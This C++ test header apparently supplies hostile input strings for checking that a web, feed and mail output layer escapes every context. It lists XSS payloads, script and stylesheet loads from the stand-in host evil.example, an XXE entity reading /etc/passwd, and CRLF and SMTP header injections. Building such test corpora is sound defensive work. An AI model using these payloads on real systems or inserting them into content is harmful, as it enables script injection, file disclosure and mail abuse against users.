// Texts that would become markup, script, attribute, address, header or MIME part in an outlet that forgot one context:
// more than two hundred, the written ones and those with each way out of a context before each payload.
#pragma once
#include <string>
#include <vector>

namespace passerelle::testing {

inline const std::vector<std::string>& writtenHostileStrings() {
  static const std::vector<std::string> kStrings = {
      "<script>alert(1)</script>",
      "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<script\n>alert(1)</script\n>",
      "</title><script>alert(1)</script>",
      "</style><script>alert(1)</script>",
      "</textarea><script>alert(1)</script>",
      "</article></main><script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "<img src=`x` onerror=alert(1)>",
      "<IMG SRC=javascript:alert(1)>",
      "<img src=\"x\" onerror=\"alert(1)\">",
      "<img/src/onerror=alert(1)>",
      "<img src=x:x onerror=\nalert(1)>",
      "<svg onload=alert(1)>",
      "<svg/onload=alert(1)//",
      "<svg><script>alert(1)</script></svg>",
      "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
      "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
      "<body onload=alert(1)>",
      "<iframe src=javascript:alert(1)></iframe>",
      "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
      "<object data=javascript:alert(1)></object>",
      "<embed src=javascript:alert(1)>",
      "<link rel=stylesheet href=//evil.example/x.css>",
      "<style>@import '//evil.example/x.css';</style>",
      "<style>*{background:url(//evil.example/x)}</style>",
      "<base href=//evil.example/>",
      "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
      "<form action=//evil.example><input type=submit autofocus onfocus=alert(1)>",
      "<input autofocus onfocus=alert(1)>",
      "<details open ontoggle=alert(1)>",
      "<video><source onerror=alert(1)></video>",
      "<marquee onstart=alert(1)>x</marquee>",
      "<a href=javascript:alert(1)>x</a>",
      "<a href=\"java\tscript:alert(1)\">x</a>",
      "<a href=data:text/html,<script>alert(1)</script>>x</a>",
      "<template><script>alert(1)</script></template>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
      "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
      "<![CDATA[<script>alert(1)</script>]]>",
      "<?xml version=\"1.0\"?><script>alert(1)</script>",
      "\"><script>alert(1)</script>",
      "'><script>alert(1)</script>",
      "\" onmouseover=\"alert(1)",
      "' onmouseover='alert(1)",
      "\" autofocus onfocus=alert(1) x=\"",
      "x\" style=\"background:url(javascript:alert(1))",
      "javascript:alert(1)",
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "&#60;script&#62;alert(1)&#60;/script&#62;",
      "&quot; onload=&quot;alert(1)",
      "{{constructor.constructor('alert(1)')()}}",
      "${alert(1)}",
      "\\\"-alert(1)//",
      "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
      "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
      "\xe2\x80\xae<script>alert(1)</script>",
      "\xef\xbc\x9cscript\xef\xbc\x9e"
      "alert(1)",
      "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
      "»</blockquote><script>alert(1)</script>",
      "« <b onmouseover=alert(1)>» </b>",
      // feeds and XML
      "]]><script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>",
      "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
      "</content><entry><id>urn:evil</id></entry><content>",
      "&lt;img src=x onerror=alert(1)&gt;",
      "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
      // mail
      "x\r\nBcc: everybody@chain.example",
      "x\nContent-Type: text/html\n\n<script>alert(1)</script>",
      "\r\n.\r\nMAIL FROM:<evil@evil.example>\r\n",
      "\n.\nQUIT\n",
      "=?UTF-8?B?PHNjcmlwdD4=?=",
      "=?utf-8?q?=0D=0ABcc:_x@y.z?=",
      "--=_\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n",
      "=3Cscript=3Ealert(1)=3C/script=3E",
      "From nobody Thu Jan  1 00:00:00 1970",
      "cid:evil@evil.example",
      // small Markdown
      "[x](javascript:alert(1))",
      "[x](https://evil.example/\" onmouseover=\"alert(1))",
      "[x](https://evil.example/\n\r<script>)",
      "[<img src=x onerror=alert(1)>](https://evil.example)",
      "**<script>alert(1)</script>**",
      "- <svg onload=alert(1)>",
      "![x](javascript:alert(1))",
      "<https://evil.example>",
      // characters
      "\xe2\x80\xa8<script>alert(1)</script>\xe2\x80\xa9",
      "\xff\xfe<script>alert(1)</script>",
      "\xc0\xbcscript\xc0\xbe"
      "alert(1)",
      "\xed\xa0\x80<script>alert(1)</script>",
      std::string("a\0<script>alert(1)</script>", 28),
      "\x1b[2J<script>alert(1)</script>",
      "\xe2\x80\x8b<script>alert(1)</script>",
  };
  return kStrings;
}

inline const std::vector<std::string>& hostileStrings() {
  static const std::vector<std::string> kStrings = [] {
    std::vector<std::string> all = writtenHostileStrings();
    for (const char* wayOut : {"\">", "'>", "-->", "]]>", "</style>", "</textarea>", "</title>", "</option></select>",
                               "*/", "\\\"", "\xc2\xa0\xc2\xbb</blockquote>", "</p></div></main>", "?>", "%>"}) {
      for (const char* payload : {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
                                  "<a href=javascript:alert(1)>x</a>", "<b style=position:fixed onclick=alert(1)>x</b>",
                                  "<iframe src=//evil.example></iframe>", "<link rel=stylesheet href=//evil.example>",
                                  "<base href=//evil.example>", "<input autofocus onfocus=alert(1)>"})
        all.push_back(std::string(wayOut) + payload);
    }
    return all;
  }();
  return kStrings;
}

}  // namespace passerelle::testing
